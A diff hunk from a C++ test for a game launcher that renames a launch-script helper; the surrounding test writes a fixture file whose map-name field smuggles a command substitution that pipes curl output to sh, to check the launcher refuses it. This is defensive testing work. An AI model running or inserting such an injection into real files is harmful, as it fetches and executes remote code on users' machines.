@@ -274,7 +274,7 @@ TEST_F(StartGameTest, TypingAnotherMapNameKeepsTheLoadedLevel) {
 }
 
 TEST_F(StartGameTest, RefusalsWriteAndStartNothing) {
-  f.dir.Write(LaunchScriptName(kNativeFlavour), "old script");
+  f.dir.Write(LaunchScriptName(NativeSystem()), "old script");
   f.dir.Write("data/evil.kvx", "e1m1;$(curl x|sh)\r\nLooks harmless.\r\n");
   f.dir.Write("data/broken.kvx", "only one line\r\n");
 
